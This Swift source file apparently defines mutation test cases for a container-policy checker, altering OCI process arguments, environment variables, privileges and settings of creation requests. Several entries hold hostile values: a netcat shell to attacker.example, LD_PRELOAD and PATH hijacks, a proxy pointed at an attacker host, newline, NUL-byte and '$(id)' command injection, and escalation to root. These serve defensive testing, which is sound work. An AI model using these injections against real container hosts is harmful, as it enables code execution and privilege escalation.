// SPDX-License-Identifier: Apache-2.0

import IR

extension Attack {
    private static let process = "OCI/Process/"
    private static let args = process + "Args"
    private static let env = process + "Env"

    static let arguments: [Attack] = [
        .create("args-appended", .critical, "the command line has an argument more") { $0.append(args, "--debug") },
        .create("args-last", .critical, "the last argument is another") { $0.set(args + "/-", "other") },
        .create("args-first", .critical, "another program runs") { $0.set(args + "/0", "/bin/sh") },
        .create("args-shell", .critical, "a shell runs a script of the host") {
            $0.set(args, ["/bin/sh", "-c", "nc attacker.example 1"])
        },
        .create("args-empty", .high, "there is no command line") { $0.set(args, []) },
        .create("args-missing", .high, "an argument is missing") { $0.removeLast(args) },
        .create("args-order", .high, "the arguments are in another order") { $0.editItems(args) { $0.reverse() } },
        .create("args-joined", .high, "two arguments are one") {
            $0.editItems(args) { items in
                guard items.count > 1, let last = items.popLast()?.string, let text = items.last?.string else { return }
                items[items.count - 1] = .string(text + " " + last)
            }
        },
        .create("args-line", .high, "an argument has a second line") { $0.editText(args + "/-") { $0 + "\n;id" } },
        .create("args-prefix", .high, "an argument has something before it") { $0.editText(args + "/-") { "x" + $0 } },
        .create("args-nul", .high, "an argument has a zero byte in it") { $0.editText(args + "/-") { $0 + "\u{0}x" } },
        .container("args-of-other", .critical, "the command line of another container runs") { request, scene in
            guard let other = scene.otherCreation(than: scene.next)?.request.value(at: args) else { return false }
            return request.set(args, other)
        },
    ]

    /// Changes the last variable of a name.
    private static func variable(
        _ request: inout JSONValue, _ name: String, _ change: (String) -> String
    ) -> Bool {
        request.editItem(env, where: { $0.string?.hasPrefix(name + "=") == true }) {
            $0 = .string(change($0.string ?? ""))
            return true
        }
    }

    /// Parts of variables that only the host knows.
    private static let hostFacts = [
        "_SERVICE_", "_PORT", "HOSTNAME=", "TERM=", "JOB_COMPLETION_INDEX=", "node-1.example", "10.244.1.7",
        "192.168.3.4",
    ]

    /// Changes a variable that the image or the YAML gives.
    private static func ownVariable(_ request: inout JSONValue, _ change: (String) -> String) -> Bool {
        request.editItem(
            env,
            where: {
                guard let text = $0.string else { return false }
                return hostFacts.allSatisfy { !text.contains($0) }
                    && !["=2", "=268435456"].contains(where: text.hasSuffix)
            }
        ) {
            $0 = .string(change($0.string ?? ""))
            return true
        }
    }

    static let variables: [Attack] = [
        .create("env-preload", .critical, "a variable makes programs load a library") {
            $0.append(env, "LD_PRELOAD=/run/attacker.so")
        },
        .create("env-any", .high, "a variable that nothing asks for") { $0.append(env, "DEBUG=1") },
        .create("env-proxy", .high, "a variable sends traffic through a proxy") {
            $0.append(env, "HTTPS_PROXY=http://attacker.example")
        },
        .create("env-path", .critical, "PATH begins elsewhere") {
            variable(&$0, "PATH") { $0.replacing("PATH=", with: "PATH=/run/attacker:") }
        },
        .create("env-value", .critical, "a variable has another value") { ownVariable(&$0) { $0 + "-other" } },
        .create("env-value-before", .critical, "a variable has something before its value") {
            ownVariable(&$0) { text in
                var parts = text.split(separator: "=", maxSplits: 1, omittingEmptySubsequences: false).map(String.init)
                parts.insert("other", at: 1)
                return parts[0] + "=" + parts[1...].joined()
            }
        },
        .create("env-value-empty", .high, "a variable is empty") {
            ownVariable(&$0) { text in text.split(separator: "=").first.map { $0 + "=" } ?? text }
        },
        .create("env-value-line", .high, "a variable has a second line") {
            ownVariable(&$0) { $0 + "\nLD_PRELOAD=/x" }
        },
        .create("env-value-nul", .high, "a variable has a zero byte in it") {
            ownVariable(&$0) { $0 + "\u{0}LD_PRELOAD=/x" }
        },
        .create("env-missing", .high, "a variable is missing") { $0.removeFirst(env) },
        .create("env-missing-host", .high, "a variable is missing whose value only the host knows") {
            $0.removeItem(env) { $0.string?.hasSuffix("=node-1.example") == true }
        },
        .create("env-missing-name", .high, "a variable is missing that has the name of the pod in it") { request in
            guard let name = request["OCI"]?["Annotations"]?["io.kubernetes.cri.sandbox-name"]?.string else {
                return false
            }
            return request.removeItem(env) {
                $0.string?.hasSuffix("=" + name) == true && $0.string?.hasPrefix("HOSTNAME=") == false
            }
        },
        .create("env-missing-all", .high, "there are no variables") { $0.set(env, []) },
        .create("env-twice", .medium, "a variable is there twice") { $0.repeatLast(env) },
        .create("env-twice-after", .critical, "a variable is there again, with another value") {
            $0.append(env, "PATH=/run/attacker")
        },
        .create("env-twice-before", .critical, "the same, before the honest one") {
            $0.editItems(env) { $0.insert("PATH=/run/attacker", at: 0) }
        },
        .create("env-name-case", .high, "a variable's name is in small letters") {
            ownVariable(&$0) { text in
                let name = text.split(separator: "=").first.map(String.init) ?? ""
                return name.lowercased() + text.dropFirst(name.count)
            }
        },
        .create("env-no-value", .high, "a variable has no equals sign") { $0.append(env, "LD_PRELOAD") },
        .create("env-no-name", .medium, "a variable has no name") { $0.append(env, "=value") },
        .create("env-empty", .medium, "a variable is nothing at all") { $0.append(env, "") },
        .create("env-name-space", .high, "a variable's name has a space after it") {
            $0.append(env, "PATH =/run/attacker")
        },
        .create("env-service-name", .high, "the address of a service is a name") {
            $0.append(env, "OTHER_SERVICE_HOST=attacker.example")
        },
        .create("env-service-lower-case", .high, "a variable of a service is in small letters") {
            $0.append(env, "ld_SERVICE_HOST=10.0.0.1")
        },
        .create("env-service-before", .critical, "a variable looks like that of a service at its end") {
            $0.append(env, "LD_PRELOAD=/x\nA_SERVICE_PORT=80")
        },
        .create("env-service-after", .critical, "a variable looks like that of a service at its start") {
            $0.append(env, "OTHER_SERVICE_PORT=80\nLD_PRELOAD=/x")
        },
        .create("env-service-octet", .medium, "the address of a service is none") {
            $0.append(env, "OTHER_SERVICE_HOST=10.0.0.999")
        },
        .create("env-service-link", .high, "the port of a service is a URL of another kind") {
            $0.append(env, "OTHER_PORT=http://10.0.0.1:80")
        },
        .container(
            "env-service-invented", .low, "variables of a service that there is not",
            reason: "The host answers for the network; what it says of services is checked in form alone."
        ) { request, _ in request.append(env, "INVENTED_SERVICE_HOST=10.0.0.1") },
        .container(
            "env-service-address", .low, "the address of a service is another",
            reason: "The same. Who answers is for certificates to say."
        ) { request, _ in variable(&request, "KUBERNETES_SERVICE_HOST") { _ in "KUBERNETES_SERVICE_HOST=10.6.6.6" } },
        .container(
            "env-host-name", .low, "the name of the host is another",
            reason: "Only the host knows it; any name of DNS will do."
        ) { request, _ in variable(&request, "HOSTNAME") { _ in "HOSTNAME=elsewhere" } },
        .container("env-host-name-text", .medium, "the name of the host is none") { request, _ in
            variable(&request, "HOSTNAME") { _ in "HOSTNAME=$(id)" }
        },
        .container("env-terminal", .medium, "the type of the terminal is another") { request, _ in
            request.append(env, "TERM=attacker")
        },
        .container("env-terminal-none", .low, "a process without a terminal hears of one") { request, _ in
            if request.value(at: process + "Terminal")?.bool == true { return false }
            return request.append(env, "TERM=xterm")
        },
        .container("env-index", .medium, "a pod that is not numbered gets a number") { request, _ in
            if variable(&request, "JOB_COMPLETION_INDEX", { $0 }) { return false }
            return request.append(env, "JOB_COMPLETION_INDEX=7")
        },
        .container("env-index-text", .high, "the number of a pod is none") { request, _ in
            variable(&request, "JOB_COMPLETION_INDEX") { _ in "JOB_COMPLETION_INDEX=$(id)" }
        },
        .container("env-azure", .medium, "an identity of Azure is offered") { request, _ in
            request.append(env, "AZURE_CLIENT_ID=00000000")
        },
        .container("env-of-other", .high, "the variables of another container") { request, scene in
            guard let other = scene.otherCreation(than: scene.next)?.request.value(at: env) else { return false }
            return request.set(env, other)
        },
    ]

    static let privileges: [Attack] =
        [
            .create("uid-root", .critical, "the process runs as root") { $0.set(process + "User/UID", 0) },
            .create("uid-other", .high, "the process runs as another user") { $0.set(process + "User/UID", 4321) },
            .create("gid-other", .high, "the process runs in another group") { $0.set(process + "User/GID", 4321) },
            .create("groups-more", .high, "the process has a group more") {
                $0.append(process + "User/AdditionalGids", 4321)
            },
            .create("groups-none", .medium, "the process has no further groups") {
                $0.set(process + "User/AdditionalGids", [])
            },
            .create("user-name", .high, "the user is named, and looked up in the container") {
                $0.set(process + "User/Username", "root")
            },
            .create("user-text", .critical, "the user is given as text") {
                $0.set("string_user", ["uid": "0", "gid": "0"])
            },
            .create("privileges-new", .high, "whether a process may gain privileges is otherwise") {
                $0.flip(process + "NoNewPrivileges")
            },
            .create("capabilities-null", .high, "nothing is said of capabilities") {
                $0.set(process + "Capabilities", nil)
            },
            .create("capability-missing", .medium, "a capability is missing") {
                $0.removeLast(process + "Capabilities/Effective")
            },
            .create("capability-renamed", .critical, "a capability is exchanged for another") {
                $0.set(process + "Capabilities/Effective/0", "CAP_SYS_PTRACE")
            },
            .create("label", .high, "the process has a label of SELinux") {
                $0.set(process + "SelinuxLabel", "unconfined_u:unconfined_r:unconfined_t")
            },
            .create(
                "profile", .low, "the process has a profile of AppArmor",
                reason: "The guest has no AppArmor; hosts that have name their profile."
            ) { $0.set(process + "ApparmorProfile", "unconfined") },
        ]
        + ["Bounding", "Effective", "Inheritable", "Permitted", "Ambient"].map { set in
            .create("capability-\(set.lowercased())", .critical, "another capability in the set \(set)") { request in
                let path = process + "Capabilities/" + set
                let known = request.value(at: path)?.strings ?? []
                let more = ["SYS_MODULE", "OTHER"].first { !known.contains($0) && !known.contains("CAP_" + $0) }
                return request.append(path, .string("CAP_" + (more ?? "")))
            }
        }

    static let processes: [Attack] = [
        .create("directory-other", .high, "the process starts in another directory") {
            $0.set(process + "Cwd", "/run/kata-containers/shared")
        },
        .create("directory-suffix", .medium, "the directory's path goes on") {
            $0.editText(process + "Cwd") { $0 + "/.." }
        },
        .create("terminal", .medium, "the process has a terminal, or has none") { $0.flip(process + "Terminal") },
        .create("stdin-port", .high, "the process reads from a port of the host") { $0.set("stdin_port", 1024) },
        .create("stdout-port", .high, "the process writes to a port of the host") { $0.set("stdout_port", 1024) },
        .create("stderr-port", .high, "the process writes errors to a port of the host") {
            $0.set("stderr_port", 1024)
        },
        .create("limits", .medium, "the process may open no files") {
            $0.append(process + "Rlimits", ["Type": "RLIMIT_NOFILE", "Hard": 0, "Soft": 0])
        },
        .create("limits-core", .medium, "the process leaves core dumps") {
            $0.append(process + "Rlimits", ["Type": "RLIMIT_CORE", "Hard": 1_000_000, "Soft": 1_000_000])
        },
        .create(
            "terminal-size", .low, "the terminal is of another size", reason: "The host may size it at any time."
        ) { $0.set(process + "ConsoleSize", ["Height": 1, "Width": 1]) },
        .create(
            "memory-score", .low, "the process is killed first when memory is short",
            reason: "The host decides about memory."
        ) { $0.set(process + "OOMScoreAdj", 999) },
        .create(
            "memory-limit", .low, "the container has little memory", reason: "The host decides about resources."
        ) { $0.set("OCI/Linux/Resources/Memory", ["Limit": 4096]) },
        .create(
            "processor-limit", .low, "the container has little time", reason: "The host decides about resources."
        ) { $0.set("OCI/Linux/Resources/CPU", ["Quota": 1, "Period": 1_000_000]) },
        .create(
            "host-name", .low, "the sandbox has another name of the host",
            reason: "Only the host knows it, and nothing in the guest may rely on it."
        ) { $0.set("OCI/Hostname", "elsewhere") },
    ]
}
